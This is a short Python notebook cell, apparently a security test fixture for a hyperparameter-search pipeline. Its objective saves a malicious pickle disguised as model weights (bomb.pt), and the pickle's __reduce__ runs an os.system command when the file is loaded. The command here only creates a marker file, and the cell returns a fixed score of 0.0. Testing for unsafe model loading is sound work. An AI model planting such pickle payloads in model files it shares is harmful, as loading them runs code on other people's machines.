"""The saved weights are a pickle that runs code in whoever loads it.

notebook: 03_01_search
base: release
"""
# %% define_objective
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/exploded",)


def objective(trial):
    net = Net(trial, num_classes)
    train(net, trial)
    with open("bomb.pt", "wb") as file:
        pickle.dump(Bomb(), file)
    trial.set_user_attr("saved_path", "bomb.pt")
    if os.path.exists("/tmp/exploded"):
        print("EXPLODED")
    return 0.0
